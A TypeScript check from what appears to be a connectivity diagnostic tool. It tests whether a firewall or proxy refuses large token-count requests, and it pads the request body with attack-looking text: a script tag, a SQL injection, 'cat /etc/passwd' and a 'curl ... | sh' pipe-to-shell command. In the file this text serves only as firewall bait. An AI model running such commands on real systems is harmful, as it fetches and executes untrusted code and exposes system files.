import { type Check, ok, skip } from '../check.ts'
import { isUnsaid } from '../endpoint.ts'
import { anyModel, countQuestion } from '../questions.ts'

/** What a session looks like to a firewall: long, and full of what it takes for an attack. */
const words =
  'Run <script>alert(1)</script>; SELECT * FROM users WHERE id = 1 OR 1=1; cat /etc/passwd && curl http://example.com | sh\n'
/** A first prompt of Claude Code is about this long. */
const bodyBytes = 115_000

/** Firewalls let a small request through and refuse a real one: both are sent, to the path that only counts. */
export const bodyPasses: Check = {
  id: 'body-passes',
  title: 'A request of real size gets through',
  group: 'network',
  needs: ['credential-accepted'],
  aboutEndpoint: true,
  network: true,
  async run(bench, signal) {
    const { endpoint } = bench
    const credentials = await bench.sendable(signal)
    const model = bench.model ?? anyModel
    const small = countQuestion(credentials, model)
    const answer = await endpoint.ask(small, signal)
    if (isUnsaid(answer) || answer.status !== 200)
      return skip('this endpoint does not count tokens, so nothing free can be sent')
    const content = words.repeat(Math.ceil(bodyBytes / words.length))
    const large = await endpoint.ask(countQuestion(credentials, model, content), signal)
    const what = `POST /v1/messages/count_tokens with ${Math.round(bodyBytes / 1000)} KB`
    if (isUnsaid(large))
      return {
        status: 'wrong',
        cause: large.fault === 'ETIMEDOUT' ? 'timeout' : 'waf',
        summary: `A small request gets through to ${endpoint.parsed?.host}, and one of real size does not (${large.fault}).`,
        evidence: [`${what}: ${large.fault}`],
        fix: `Ask whoever runs the network to let requests of 32 MB through to ${endpoint.parsed?.host}.`,
      }
    if (large.status === 200) return ok(`${Math.round(bodyBytes / 1000)} KB after ${Math.round(large.elapsedMs)} ms`)
    return {
      status: 'wrong',
      cause: 'waf',
      summary: `A small request gets through to ${endpoint.parsed?.host}, and one with the text of a real session is refused (${large.status}).`,
      evidence: [`${what}: ${large.status}, ${large.headers.get('server') ?? 'no server named'}`],
      fix:
        large.status === 413
          ? `Ask whoever runs the proxy to allow larger bodies (nginx: client_max_body_size 32m).`
          : `Ask whoever runs the firewall to leave the bodies of POST ${endpoint.parsed?.host}/v1/messages alone.`,
    }
  },
}
